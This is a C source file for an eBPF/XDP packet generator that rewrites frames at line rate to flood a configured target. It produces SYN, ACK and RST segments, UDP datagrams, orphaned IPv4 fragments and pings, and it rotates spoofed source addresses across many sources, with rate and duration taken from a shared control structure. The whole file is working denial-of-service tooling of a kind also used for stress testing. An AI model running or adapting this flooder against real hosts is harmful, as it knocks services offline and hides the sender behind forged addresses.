// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/* Makes the packets of a flood: SYNs, other segments, datagrams, pieces and pings, from one or from many sources. */
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/ipv6.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

#include "flood.h"

/* One CPU does it all: no atomics. */
struct flood_orders orders = {};

#define L4_WORDS (FLOOD_L4 / 2)

static __always_inline __u32 mix(__u32 x)
{
	x = (x ^ x >> 15) * 0x85ebca6bu;
	x = (x ^ x >> 13) * 0xc2b2ae35u;
	return x ^ x >> 16;
}

static __always_inline __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	return (__u16)((sum & 0xffff) + (sum >> 16));
}

/* The transport header and what is behind it, checksum 0. Returns the checksum's word; beyond the end: there is none. */
static __always_inline __u32 write_l4(__u16 *w, __u32 n, __u32 from, __u32 proto)
{
	const __u16 sport = (__u16)(1024 + (from / orders.sources) % 60000);
	const __u16 dport = (__u16)(orders.port ? orders.port : 1 + n % 65535);

	for (int i = 0; i < L4_WORDS; i++)
		w[i] = 0;
	if (orders.kind == FLOOD_PIECE) {
		w[0] = (__u16)n;
		return L4_WORDS;
	}
	if (orders.kind == FLOOD_PING) {
		w[0] = orders.family == 4 ? bpf_htons(8 << 8) : bpf_htons(128 << 8);
		w[2] = bpf_htons(sport);
		w[3] = (__u16)n;
		return 1;
	}
	w[0] = bpf_htons(sport);
	w[1] = bpf_htons(dport);
	if (proto == IPPROTO_UDP) {
		w[2] = bpf_htons(FLOOD_L4);
		return 3;
	}
	w[2] = (__u16)mix(n);
	w[3] = (__u16)n;
	if (orders.kind == FLOOD_ACK)
		w[4] = (__u16)n;
	w[6] = bpf_htons(0x6000 | (orders.kind == FLOOD_SYN ? 2 : orders.kind == FLOOD_ACK ? 16 : 4));
	w[7] = bpf_htons(64240);
	w[10] = bpf_htons(0x0204); /* maximum segment size */
	w[11] = bpf_htons(1460);
	return 8;
}

static __always_inline __u32 proto_of(void)
{
	if (orders.kind == FLOOD_PING)
		return orders.family == 4 ? IPPROTO_ICMP : IPPROTO_ICMPV6;
	return orders.kind == FLOOD_UDP || orders.kind == FLOOD_PIECE ? IPPROTO_UDP : IPPROTO_TCP;
}

/* All headers of the next packet: pages are used again, and whoever had them has changed them. Sum of the addresses. */
static __always_inline __u32 write_ip4(struct iphdr *ip, __u32 n, __u32 from, __u32 proto)
{
	const __u16 *half = (const void *)&ip->saddr;
	__u32 sum;

	ip->version = 4;
	ip->ihl = 5;
	ip->tos = 0;
	ip->tot_len = bpf_htons(20 + FLOOD_L4);
	ip->id = (__u16)n;
	/* a piece without its first one, three times out of four; else the first of a datagram that never ends */
	ip->frag_off = orders.kind == FLOOD_PIECE ? bpf_htons((n & 3) ? 0x2000 | 3 : 0x2000) : bpf_htons(0x4000);
	ip->ttl = 60;
	ip->protocol = (__u8)proto;
	ip->saddr = bpf_htonl(bpf_ntohl(*(__u32 *)orders.source) + from % orders.sources);
	ip->daddr = *(__u32 *)orders.target;
	ip->check = 0;
	sum = (__u32)half[0] + half[1] + half[2] + half[3];
	ip->check = (__u16)~fold(sum + bpf_htons(0x4500) + ip->tot_len + ip->id + ip->frag_off + bpf_htons(60 << 8 | proto));
	return sum;
}

static __always_inline __u32 write_ip6(struct ipv6hdr *ip, __u32 from, __u32 proto)
{
	const __u16 *half = (const void *)&ip->saddr;
	__u32 sum = 0;

	*(__u32 *)ip = bpf_htonl(6u << 28);
	ip->payload_len = bpf_htons(FLOOD_L4);
	ip->nexthdr = (__u8)proto;
	ip->hop_limit = 60;
	__builtin_memcpy(&ip->saddr, orders.source, 16);
	/* another network of 64 bits each */
	ip->saddr.in6_u.u6_addr32[1] = bpf_htonl(bpf_ntohl(ip->saddr.in6_u.u6_addr32[1]) + from % orders.sources);
	__builtin_memcpy(&ip->daddr, orders.target, 16);
	for (int i = 0; i < 16; i++)
		sum += half[i];
	return sum;
}

/* Is it time for the next one? What should have gone long ago does not go all at once. */
static __always_inline int is_due(void)
{
	__u64 now;

	if (!orders.until_ns)
		return 1;
	now = bpf_ktime_get_ns();
	if (now >= orders.until_ns || now < orders.due_ns)
		return 0;
	orders.due_ns = (now - orders.due_ns > 1000000 ? now : orders.due_ns) + orders.every_ns;
	return 1;
}

SEC("xdp")
int flood_send(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct ethhdr *eth = data;
	__u32 n, from, proto = proto_of(), at, sum;
	__u16 l4[L4_WORDS];

	if (data + FLOOD_FRAME4 > end || !orders.sources)
		return XDP_ABORTED;
	if (!is_due())
		return XDP_DROP;
	n = orders.next++;
	from = mix(n * 0x9e3779b9u);
	__builtin_memcpy(eth->h_dest, orders.to_mac, ETH_ALEN);
	__builtin_memcpy(eth->h_source, orders.from_mac, ETH_ALEN);
	at = write_l4(l4, n, from, proto);
	sum = 0;
	for (int i = 0; i < L4_WORDS; i++)
		sum += l4[i];
	if (orders.family == 4) {
		const __u32 addresses = write_ip4(data + ETH_HLEN, n, from, proto);

		eth->h_proto = bpf_htons(ETH_P_IP);
		if (orders.kind != FLOOD_PING)
			sum += addresses + bpf_htons(FLOOD_L4) + bpf_htons((__u16)proto);
	} else {
		if (data + FLOOD_FRAME6 > end)
			return XDP_ABORTED;
		eth->h_proto = bpf_htons(ETH_P_IPV6);
		sum += write_ip6(data + ETH_HLEN, from, proto) + bpf_htons(FLOOD_L4) + bpf_htons((__u16)proto);
	}
	for (int i = 0; i < L4_WORDS; i++)
		if ((__u32)i == at)
			l4[i] = (__u16)~fold(sum);
	if (orders.family == 4)
		__builtin_memcpy(data + ETH_HLEN + 20, l4, FLOOD_L4);
	else if (data + FLOOD_FRAME6 <= end)
		__builtin_memcpy(data + ETH_HLEN + 40, l4, FLOOD_L4);
	if (bpf_xdp_adjust_tail(ctx, -FLOOD_TAIL))
		return XDP_ABORTED;
	return (int)bpf_redirect(orders.out, 0);
}

char LICENSE[] SEC("license") = "Dual BSD/GPL";
